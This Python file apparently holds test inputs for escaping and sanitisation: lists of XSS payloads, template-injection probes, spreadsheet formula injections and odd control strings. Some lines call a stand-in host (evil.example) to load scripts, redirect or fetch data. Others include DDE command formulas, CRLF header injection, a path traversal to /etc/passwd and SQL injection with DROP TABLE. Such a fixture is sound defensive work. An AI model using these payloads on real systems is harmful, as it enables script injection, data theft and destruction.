"""Texts that try to become markup, a formula, a field or another line; each in some known way."""

XSS = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js>",
    "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=1>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg/onload=alert(1)//",
    "<math><mtext></mtext><mglyph><svg><mtext><style><img src onerror=alert(1)></style>",
    "<math href=javascript:alert(1)>x</math>", "<iframe srcdoc='<script>1</script>'>",
    "<iframe src=javascript:alert(1)>", "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "<a href='data:text/html,<script>1</script>'>x</a>",
    "<form action=//evil.example><button>x", "<input autofocus onfocus=alert(1)>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}</style>",
    "<object data=//evil.example>", "<embed src=//evil.example>",
    "<video><source onerror=alert(1)>",
    "<template><script>1</script></template>", "<noscript><p title='</noscript><img src=x>'>",
    "<!--><script>1</script-->", "--><script>alert(1)</script>",
    "<![CDATA[<script>1</script>]]>",
    "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' autofocus onfocus='alert(1)", "` onload=`alert(1)`", "</textarea><script>1</script>",
    "</title><script>alert(1)</script>", "</svg><script>alert(1)</script>",
    "</td></tr></table><p>",
    "javascript:alert(1)", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;",
    "%3Cscript%3E",
    "\\u003cscript\\u003e", "＜script＞alert(1)＜/script＞", "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<\x0bscript>", "\u202e<script>alert(1)</script>\u202c", "{{ 7*'7' }}", "{% raw %}",
    "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "%(name)s", "%s%n", "{0.__class__}",
    "\N{RIGHT-TO-LEFT ISOLATE}x", "]]>",
]  # fmt: skip
FORMULAS = [
    "=1+1", "=HYPERLINK(\"http://evil.example\",\"x\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1|x",
    "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "{=1+1}",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "=IMPORTXML(\"http://evil.example\",\"//a\")",
    " =1+1", "\ufeff=1+1",
]  # fmt: skip
ODD = [
    "\x00", "\x07\x1b[31mred\x1b[0m", "a\r\nSet-Cookie: a=b", "\ufffe\uffff",
    "\U0001fffe", "\x85\u2028\u2029",
    "\u200b\u200d", "a\u0301" * 50, "\u202eevil\u2066",
    "😀👩🏽‍💻" * 20, "۝ﷺ" * 30, "x" * 3000, "../../etc/passwd",
    "C:\\con", "nul", "' OR 1=1 --", "\"; DROP TABLE response; --",
    "INCLUDETEXT \"c:\\\\x\"", "TOC \\o",
]  # fmt: skip

EVERY = [*XSS, *FORMULAS, *ODD]
